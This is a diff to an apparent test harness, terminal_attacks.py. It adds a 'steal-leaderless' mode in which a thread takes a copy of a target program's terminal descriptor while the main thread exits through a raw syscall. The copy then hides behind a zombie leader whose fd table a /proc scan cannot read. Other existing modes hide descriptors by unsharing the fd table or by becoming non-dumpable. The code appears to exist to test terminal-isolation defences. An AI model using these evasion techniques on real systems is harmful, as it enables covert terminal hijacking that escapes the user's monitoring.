@@ -12,6 +12,9 @@
   terminal_attacks.py steal-in-thread PI_PID OUT MARKER SECONDS
       The same from a thread that first unshares its descriptor table, so
       the copy is not in /proc/<pid>/fd (only in /proc/<pid>/task/<tid>/fd).
+  terminal_attacks.py steal-leaderless PI_PID OUT MARKER SECONDS
+      The same from a thread whose process's main thread then exits: a zombie
+      leader with an unreadable fd table, and a live thread holding the copy.
   terminal_attacks.py hold-hidden TTY OUT MARKER SECONDS
       Opens TTY (before pi makes it exclusive), becomes non-dumpable so the
       user's scan cannot read its descriptors, and holds it (OUT unused).
@@ -137,6 +140,18 @@ def hold_hidden(tty, out, marker, seconds):
     time.sleep(seconds)
 
 
+def steal_leaderless(pi, out, marker, seconds):
+    """The logger runs in a thread while the main thread exits (SYS_exit, not
+    exit_group): /proc/<pid> then shows a zombie leader whose own fd table is
+    unreadable, while the thread still holds the terminal."""
+    import platform
+    import threading
+    t = threading.Thread(target=_steal, args=(pi, out, marker, seconds, False))
+    t.start()
+    time.sleep(0.5)
+    libc.syscall(60 if platform.machine() == "x86_64" else 93, 0)
+
+
 def steal(pi, out, marker, seconds, hide=False):
     if not hide:
         return _steal(pi, out, marker, seconds, False)
@@ -183,6 +198,8 @@ if __name__ == "__main__":
     elif sys.argv[1] in ("steal", "steal-in-thread"):
         steal(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]),
               hide=sys.argv[1] == "steal-in-thread")
+    elif sys.argv[1] == "steal-leaderless":
+        steal_leaderless(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]))
     elif sys.argv[1] == "hold-hidden":
         hold_hidden(sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]))
     else:
